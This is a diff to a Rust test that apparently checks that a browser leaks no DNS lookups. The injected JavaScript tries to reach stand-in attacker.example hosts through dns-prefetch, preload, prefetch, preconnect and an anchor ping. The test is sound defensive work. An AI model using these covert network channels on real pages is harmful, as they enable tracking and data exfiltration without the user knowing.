@@ -370,10 +370,17 @@ fn a_name_in_the_page_is_looked_up_by_nobody() {
         || (status(network.parse().unwrap(), "TracerPid") != "0").then_some(()),
     );
     window.ask(
-        "const link = document.createElement('link');\
-         link.rel = 'preconnect';\
-         link.href = 'https://an-answer.attacker.example';\
-         document.head.append(link);",
+        "for (const rel of ['dns-prefetch', 'preload', 'prefetch', 'preconnect']) {\
+           const link = document.createElement('link');\
+           link.rel = rel;\
+           link.href = `https://an-answer-by-${rel}.attacker.example`;\
+           document.head.append(link);\
+         }\
+         const link = document.createElement('a');\
+         link.href = '#';\
+         link.ping = 'https://an-answer-by-ping.attacker.example';\
+         document.body.append(link);\
+         link.click();",
         &[],
     );
     let traced = || std::fs::read_to_string(&trace).unwrap_or_default();
